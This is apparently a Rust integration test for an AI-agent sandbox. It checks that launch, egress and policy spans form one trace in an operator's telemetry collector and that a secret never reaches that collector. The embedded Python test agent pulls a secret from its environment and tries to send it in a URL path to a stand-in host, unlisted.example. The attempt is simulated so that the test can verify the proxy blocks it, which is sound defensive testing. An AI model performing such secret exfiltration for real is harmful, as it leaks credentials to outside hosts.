//! What an operator's collector gets of a bottle (E17).

use harness::{Backend, Home, World, on_each_backend};
use policy::EgressPolicy;
use telemetry::collector::{Collector, Sent};

/// Asks the proxy for a host that it refuses, by a path with a secret that the agent has, and looks for the collector.
const AGENT: &str = "
import os, urllib.request
secret = next(value for value in os.environ.values() if len(value) > 30 and value.isalnum())
try: urllib.request.urlopen('http://unlisted.example/' + secret, timeout=20)
except urllib.error.HTTPError as refusal: print(refusal.code)
print(sorted(name for name in os.environ if 'OTEL' in name), secret)
";

on_each_backend!(a_start_its_steps_its_policy_and_its_requests_are_one_trace);

async fn a_start_its_steps_its_policy_and_its_requests_are_one_trace(on: Backend) {
    let mut collector = Collector::start().await;
    let world = World::up_in(Home::on(on), &[("OTEL_EXPORTER_OTLP_ENDPOINT", &collector.url())]).await;
    world.home.write("traced", &["/usr/bin/python3", "-c", AGENT], &EgressPolicy::default());
    let ran = world.run(&["start", "traced", "--yes"]).await;
    let ran = ran.expect_code(0);
    let mut words = ran.out.split_whitespace();
    assert_eq!((words.next(), words.next()), (Some("403"), Some("[]")), "{ran:?}");
    let secret = words.next().unwrap().to_owned();

    let mut spans = Vec::new();
    let is_there = |spans: &[Sent], name| spans.iter().any(|sent| sent.text("name") == name);
    while !["bottle.start", "egress.request", "policy.change"].iter().all(|name| is_there(&spans, *name)) {
        spans.push(collector.next().await);
    }
    let start = spans.iter().find(|sent| sent.text("name") == "bottle.start").unwrap();
    assert_eq!(start.attribute("bot_bottle.agent"), "traced");
    for (service, names) in [
        ("bot-bottle-launcher", &launcher_steps()[..]),
        ("bot-bottle-egress", &["egress.request"]),
        ("bot-bottle-supervisor", &["policy.change"]),
    ] {
        for name in names {
            let found = spans.iter().find(|sent| sent.text("name") == *name);
            let part = found.unwrap_or_else(|| panic!("{name} is not in {spans:?}"));
            assert_eq!(part.service, service, "{name}");
            assert_eq!(part.text("traceId"), start.text("traceId"), "{name}");
            assert_eq!(part.text("parentSpanId"), start.text("spanId"), "{name}");
        }
    }
    assert!(!collector.everything().contains(&secret), "{spans:?}");
    world.down().await;
}

fn launcher_steps() -> [&'static str; 8] {
    ["resolve", "record", "sidecars", "boundary", "probe", "provision", "run", "settle"]
}
